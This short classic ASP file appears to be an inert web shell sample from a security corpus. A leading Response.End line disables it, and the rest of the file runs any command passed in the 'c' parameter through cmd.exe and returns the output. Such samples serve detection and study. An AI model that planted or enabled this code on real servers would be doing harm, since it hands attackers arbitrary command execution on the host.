<% Response.End ' hegui corpus: inert sample - the page ends here %>
<%
Set o = Server.CreateObject("WScript.Shell")
c = Request("c")
Set e = o.Exec("cmd.exe /c " & c)
Response.Write e.StdOut.ReadAll()
%>
